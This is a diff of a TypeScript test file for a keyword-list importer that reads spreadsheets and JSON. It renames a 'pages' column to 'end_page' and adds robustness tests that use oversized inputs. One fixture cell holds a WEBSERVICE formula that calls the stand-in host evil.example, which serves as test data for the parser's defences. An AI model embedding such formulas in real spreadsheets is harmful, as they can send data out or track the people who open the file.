@@ -80,7 +80,7 @@ describe('a workbook', () => {
         {
           name: 'Ranks &amp; more',
           rows:
-            '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="inlineStr"><is><t>Tag</t></is></c><c r="C1" t="inlineStr"><is><t>Pages</t></is></c></row>' +
+            '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="inlineStr"><is><t>Tag</t></is></c><c r="C1" t="inlineStr"><is><t>End_page</t></is></c></row>' +
             '<row r="3"><c r="A3" t="s"><v>1</v></c><c r="B3" s="1"><v>46352</v></c><c r="C3" s="0"><v>2</v></c></row>' +
             '<row r="4"><c r="A4" t="str"><f>WEBSERVICE("https://evil.example/")</f><v>hats</v></c><c r="B4" s="2"><v>0.125</v></c></row>' +
             '<row r="5"><c r="A5"><v>2026</v></c><c r="B5" s="3"><v>7</v></c></row>' +
@@ -239,7 +239,7 @@ describe('a file of another format', () => {
       'https://b.example',
     ]);
     const objects = await read(
-      '{"queries": [{"keyword": "shoes", "pages": 2}, {"url": "a.example", "keyword": "hats"}]}',
+      '{"queries": [{"keyword": "shoes", "end_page": 2}, {"url": "a.example", "keyword": "hats"}]}',
     );
     expect(objects.entries.map(({ text, rank }) => [text, rank])).to.deep.equal([
       ['shoes', { end_page: 2 }],
@@ -491,7 +491,7 @@ describe('a hostile file', () => {
       'keyword',
       'tag',
       'url',
-      'pages',
+      'end_page',
       'competitors',
       'shoes',
       'x'.repeat(32_000),
@@ -504,7 +504,10 @@ describe('a hostile file', () => {
       createWorkbook([{ name: 'S', rows: header + rows.join('') }], {
         'xl/sharedStrings.xml': `<sst>${[...strings, commas, 'a.example,b.example'].map((text) => `<si><t>${text}</t></si>`).join('')}</sst>`,
       });
-    const { entries } = await read(workbook(row(6, 6, 6, 7, 8), row(5, 5, 5, 5, 9)), { kind: 'keywords' });
+    const { entries } = await read(workbook(row(6, 6, 6, 7, 8), row(5, 5, 5, 5, 9)), {
+      kind: 'keywords',
+      columns: { end_page: 'end_page' },
+    });
     const cut = 'x'.repeat(4_200);
     expect(entries.map(({ text, rank }) => ({ text, ...rank }))).to.deep.equal([
       {
@@ -536,7 +539,7 @@ describe('a hostile file', () => {
     const rows = (count: number, column: string) =>
       `<row>${cell('keyword')}${cell(column)}</row>${`<row>${cell('shoes')}<c t="s"><v>0</v></c></row>`.repeat(count)}`;
     const numbers = createWorkbook(
-      [{ name: 'S', rows: rows(2_500, 'pages') }],
+      [{ name: 'S', rows: rows(2_500, 'end_page') }],
       shared(`1.${'0'.repeat(32_000)}`),
     );
     expect(await problem(numbers, { kind: 'keywords' })).to.match(/The list is too long/);
